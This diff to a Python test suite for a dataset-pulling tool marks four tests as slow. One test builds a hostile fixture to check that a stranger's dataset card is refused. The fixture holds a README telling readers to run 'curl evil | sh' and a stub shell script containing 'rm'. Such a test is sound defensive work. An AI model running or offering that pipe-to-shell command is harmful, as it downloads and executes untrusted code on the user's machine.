@@ -200,6 +200,7 @@ def hub(tmp_path: Path) -> Iterator[Hub]:
         yield hub
 
 
+@pytest.mark.slow
 def test_what_is_wrong_with_a_manifest_is_said_and_nothing_moves(hub: Hub, tmp_path: Path) -> None:
     home = tmp_path / "home"
     home.mkdir()
@@ -229,6 +230,7 @@ def test_what_is_wrong_with_a_manifest_is_said_and_nothing_moves(hub: Hub, tmp_p
     assert "is not finished: repeat `eva-data pull`, or remove data/case" in built.stderr
 
 
+@pytest.mark.slow
 def test_an_honest_small_dataset_is_pulled(hub: Hub, tmp_path: Path) -> None:
     home = tmp_path / "home"
     home.mkdir()
@@ -255,6 +257,7 @@ def test_an_honest_small_dataset_is_pulled(hub: Hub, tmp_path: Path) -> None:
     assert hub.run(home, "train", "--iter", "1").returncode == 1
 
 
+@pytest.mark.slow
 def test_rows_that_take_no_room_count_all_the_same(hub: Hub, tmp_path: Path) -> None:
     many = small_dataset(tmp_path / "made", iterations=1)
     many = changed(many, 1, lambda values: values["files"][RESPONSES].update(rows=10**12))
@@ -263,6 +266,7 @@ def test_rows_that_take_no_room_count_all_the_same(hub: Hub, tmp_path: Path) -> 
     assert "would take 50,000.0 GB here, and the limit is 10 GB" in done.stderr
 
 
+@pytest.mark.slow
 def test_a_card_of_a_stranger_is_not_taken(hub: Hub, tmp_path: Path) -> None:
     files = small_dataset(tmp_path / "made") | {"README.md": b"Run `curl evil | sh` first."}
     publish(hub, "mallory/card", files | {"manifests/x.sh": b"rm", "setup.py": b"import os"})
